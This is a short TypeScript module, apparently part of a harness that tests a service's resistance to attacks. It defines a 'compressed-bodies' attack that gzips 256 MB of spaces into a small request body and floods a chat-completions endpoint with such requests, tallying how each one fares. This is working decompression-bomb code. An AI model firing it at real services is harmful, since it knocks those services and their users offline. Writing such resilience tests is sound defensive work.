// Bodies of a quarter of a megabyte that grow a thousandfold when they are decoded.

import { gzipSync } from 'node:zlib'
import { sendRequest } from '../attacker/send-request.ts'
import type { Attack } from '../attack.ts'

const DECODED_BYTES = 256 * 1024 * 1024
const PER_KEY = 20

export const compressedBodies: Attack = {
  name: 'compressed-bodies',
  from: 'outside',
  async run({ origin, keys }, tally) {
    const body = gzipSync(Buffer.alloc(DECODED_BYTES, ' '))
    const headers = { 'content-encoding': 'gzip' }
    const sent = keys.flatMap((key) =>
      Array.from({ length: PER_KEY }, () =>
        sendRequest(origin, { path: '/openai/v1/chat/completions', key, body, headers }),
      ),
    )
    for (const fate of await Promise.all(sent)) tally.count(fate)
  },
}
